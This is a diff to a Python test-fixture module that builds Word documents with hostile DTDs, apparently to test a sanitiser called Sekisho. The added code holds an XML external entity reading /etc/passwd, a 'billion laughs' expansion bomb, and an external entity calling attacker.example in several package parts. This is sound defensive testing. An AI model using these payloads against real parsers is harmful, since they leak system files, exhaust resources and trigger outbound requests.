@@ -519,19 +519,37 @@ def docx_alt_chunk(chunk: bytes, name: str, ctype: str) -> bytes:
     return p.build()
 
 
+#: DTDs as attackers (and Adobe Illustrator) write them, with the reference to use
+DTDS = {
+    "xxe": ('<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;"),
+    "laughs": ('<!DOCTYPE w:document [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
+               '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]>',
+               "&d;"),
+    "plain": ('<!DOCTYPE w:document [<!ENTITY t "見積書 第十二号">]>', "&t;"),
+    "growth": ('<!DOCTYPE w:document [<!ENTITY t "' + "見積" * 200 + '">]>', "&t;" * 200),
+}
+
+
 def docx_xxe(kind: str) -> bytes:
+    """The base document with a DTD (``DTDS``) whose entity stands for its title."""
     p = Pkg(base_docx())
     text = p.text("word/document.xml")
     decl, rest = text.split("\n", 1)
-    if kind == "xxe":
-        dtd = '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
-        entity = "&xxe;"
-    else:
-        dtd = ('<!DOCTYPE w:document [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
-               '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]>')
-        entity = "&d;"
+    dtd, entity = DTDS[kind]
     rest = rest.replace("見積書 第十二号", entity, 1)
     p.put("word/document.xml", decl + "\n" + dtd + rest)
+    return p.build()
+
+
+def docx_dtd_everywhere() -> bytes:
+    """An external-entity DTD in parts Sekisho otherwise copies byte for byte: the
+    package relationships, [Content_Types].xml and the core properties."""
+    p = Pkg(base_docx())
+    for name in ("_rels/.rels", "[Content_Types].xml", "docProps/core.xml"):
+        decl, rest = p.text(name).split("\n", 1)
+        root = rest.lstrip()[1:].split(" ", 1)[0]
+        p.put(name, f'{decl}\n<!DOCTYPE {root} [<!ENTITY x SYSTEM "http://attacker.example/">]>'
+                    f"{rest}")
     return p.build()
 
 
